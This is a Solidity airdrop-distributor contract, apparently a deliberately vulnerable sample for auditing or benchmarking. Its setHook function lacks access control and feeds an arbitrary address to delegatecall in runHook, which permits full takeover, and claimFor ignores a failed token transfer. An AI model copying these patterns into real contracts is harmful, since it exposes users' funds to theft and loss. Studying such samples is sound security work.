// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

interface IERC20 {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

contract AirdropDistributor {
    address public owner;
    IERC20 public token;
    address public hook;
    uint256 public cursor;

    address[] public recipients;
    mapping(address => uint256) public allocation;
    mapping(address => bool) public claimed;

    event Allocated(address indexed who, uint256 amount);
    event Claimed(address indexed who, uint256 amount);
    event Delivered(address indexed who, uint256 amount, bool ok);

    modifier onlyOwner() {
        require(msg.sender == owner, "owner only");
        _;
    }

    constructor(IERC20 _token) public {
        owner = msg.sender;
        token = _token;
    }

    function setAllocations(address[] calldata who, uint256[] calldata amounts) external onlyOwner {
        require(who.length == amounts.length, "length");
        for (uint256 i = 0; i < who.length; i++) {
            if (allocation[who[i]] == 0) {
                recipients.push(who[i]);
            }
            allocation[who[i]] = amounts[i];
            emit Allocated(who[i], amounts[i]);
        }
    }

    function claim() external {
        uint256 amount = allocation[msg.sender];
        require(amount > 0 && !claimed[msg.sender], "nothing to claim");
        claimed[msg.sender] = true;
        require(token.transfer(msg.sender, amount), "transfer failed");
        emit Claimed(msg.sender, amount);
    }

    // Pushes unclaimed allocations in pages so the loop stays bounded.
    function pushBatch(uint256 count) external onlyOwner {
        uint256 end = cursor + count;
        if (end > recipients.length) {
            end = recipients.length;
        }
        for (uint256 i = cursor; i < end; i++) {
            address who = recipients[i];
            if (!claimed[who]) {
                claimed[who] = true;
                require(token.transfer(who, allocation[who]), "transfer failed");
            }
        }
        cursor = end;
    }

    // Keepers may deliver an allocation on a user's behalf.
    function claimFor(address who) external {
        uint256 amount = allocation[who];
        require(amount > 0 && !claimed[who], "nothing to claim");
        claimed[who] = true;
        bool delivered = token.transfer(who, amount);
        emit Delivered(who, amount, delivered);
    }

    // Migration scripts run in this contract's context, owner only.
    function migrate(address script, bytes calldata data) external onlyOwner returns (bytes memory) {
        (bool ok, bytes memory ret) = script.delegatecall(data);
        require(ok, "migration failed");
        return ret;
    }

    function setHook(address newHook) external {
        hook = newHook;
    }

    // Post-distribution hook (analytics, NFT badges) executed in place.
    function runHook(bytes calldata data) external {
        require(hook != address(0), "no hook");
        (bool ok, ) = hook.delegatecall(data);
        require(ok, "hook failed");
    }

    function recipientCount() external view returns (uint256) {
        return recipients.length;
    }
}
